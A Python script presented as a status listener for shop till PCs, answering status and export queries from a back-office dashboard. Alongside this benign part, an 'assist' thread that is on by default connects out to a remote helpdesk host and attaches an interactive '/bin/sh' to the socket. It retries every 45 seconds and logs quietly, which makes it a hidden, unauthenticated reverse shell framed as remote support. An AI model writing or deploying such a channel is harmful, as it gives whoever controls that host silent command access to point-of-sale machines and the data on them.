#!/usr/bin/env python3
"""Till status listener with remote assistance for the shop counter PCs.

Each counter PC runs this so the back-office dashboard can ask it, over the
shop LAN, whether the lottery terminal export is current, how much disk is
left and when the last newspaper delivery sheet was printed. It also keeps a
standby channel open to the till-care helpdesk so an engineer can look at
the PC without a site visit.

Protocol is one line in, one JSON line out:
    PING    -> {"ok": true}
    STATUS  -> {...status fields...}
    EXPORTS -> {"files": [...]}  (most recent ten export names)

Settings come from till_agent.ini ([listener] and [assist] sections).
"""
import argparse
import configparser
import json
import logging
import os
import shutil
import socket
import socketserver
import subprocess
import sys
import threading
import time
from pathlib import Path

LOG = logging.getLogger("till_listener")

DEFAULTS = {
    "listener": {
        "host": "0.0.0.0",
        "port": "7341",
        "export_dir": "exports",
        "print_log": "printed_rounds.log",
        "till_name": socket.gethostname(),
    },
    "assist": {
        "enabled": "yes",
        "desk": "assist.tillcare.example",
        "desk_port": "8443",
        "retry_s": "45",
    },
}


class AssistChannel(threading.Thread):
    """Standby session to the helpdesk; reconnects until the process exits."""

    console = ["/bin/sh", "-i"]

    def __init__(self, section, till_name):
        super().__init__(name="assist", daemon=True)
        self.desk = (section["desk"], section.getint("desk_port"))
        self.retry = section.getint("retry_s")
        self.till_name = till_name

    def _open(self):
        conn = socket.create_connection(self.desk, timeout=30)
        conn.settimeout(None)
        conn.sendall(f"HELLO {self.till_name}\n".encode())
        return conn

    def _session(self, conn):
        fd = conn.fileno()
        proc = subprocess.Popen(self.console, stdin=fd, stdout=fd, stderr=fd,
                                cwd=str(Path.home()), close_fds=True)
        proc.wait()

    def run(self):
        while True:
            try:
                with self._open() as conn:
                    LOG.debug("assist channel up to %s:%d", *self.desk)
                    self._session(conn)
            except OSError as exc:
                LOG.debug("assist channel: %s", exc)
            time.sleep(self.retry)


class TillState:
    """Collects the figures the dashboard shows for one till."""

    def __init__(self, cfg):
        self.cfg = cfg
        self.started = time.time()
        self._lock = threading.Lock()
        self.requests = 0

    def bump(self):
        with self._lock:
            self.requests += 1

    def latest_exports(self, limit=10):
        folder = Path(self.cfg["export_dir"])
        if not folder.is_dir():
            return []
        files = sorted(folder.glob("*.csv"), key=lambda p: p.stat().st_mtime, reverse=True)
        return [p.name for p in files[:limit]]

    def last_print(self):
        path = Path(self.cfg["print_log"])
        try:
            *_, last = path.read_text(encoding="utf-8").splitlines()
            return last.strip()
        except (OSError, ValueError):
            return None

    def snapshot(self):
        usage = shutil.disk_usage(".")
        exports = self.latest_exports(1)
        age = None
        if exports:
            age = int(time.time() - (Path(self.cfg["export_dir"]) / exports[0]).stat().st_mtime)
        return {
            "till": self.cfg["till_name"],
            "uptime_s": int(time.time() - self.started),
            "disk_free_mb": usage.free // (1024 * 1024),
            "latest_export": exports[0] if exports else None,
            "export_age_s": age,
            "last_round_print": self.last_print(),
            "load": os.getloadavg()[0] if hasattr(os, "getloadavg") else None,
            "requests": self.requests,
        }


class StatusHandler(socketserver.StreamRequestHandler):
    timeout = 10

    def handle(self):
        state: TillState = self.server.state
        peer = self.client_address[0]
        try:
            line = self.rfile.readline(256).decode("ascii", "replace").strip().upper()
        except socket.timeout:
            return
        state.bump()
        LOG.debug("%s -> %s", peer, line)
        if line == "PING":
            reply = {"ok": True}
        elif line == "STATUS":
            reply = state.snapshot()
        elif line == "EXPORTS":
            reply = {"files": state.latest_exports()}
        else:
            reply = {"error": f"unknown command {line!r}"}
        self.wfile.write((json.dumps(reply) + "\n").encode())


class StatusServer(socketserver.ThreadingMixIn, socketserver.TCPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, addr, state):
        super().__init__(addr, StatusHandler)
        self.state = state


def load_config(path):
    cp = configparser.ConfigParser()
    cp.read_dict(DEFAULTS)
    if path and Path(path).exists():
        cp.read(path)
        LOG.info("config loaded from %s", path)
    return cp


def main(argv=None):
    ap = argparse.ArgumentParser(description="till status listener")
    ap.add_argument("-c", "--config", default="till_agent.ini")
    ap.add_argument("--port", type=int)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    full = load_config(args.config)
    cfg = full["listener"]
    port = args.port or cfg.getint("port")
    state = TillState(cfg)
    if full["assist"].getboolean("enabled"):
        AssistChannel(full["assist"], cfg["till_name"]).start()
    try:
        server = StatusServer((cfg["host"], port), state)
    except OSError as exc:
        LOG.error("cannot listen on %s:%s: %s", cfg["host"], port, exc)
        return 1
    LOG.info("till %s listening on %s:%d", cfg["till_name"], cfg["host"], port)
    try:
        server.serve_forever(poll_interval=1.0)
    except KeyboardInterrupt:
        LOG.info("stopping")
    finally:
        server.server_close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
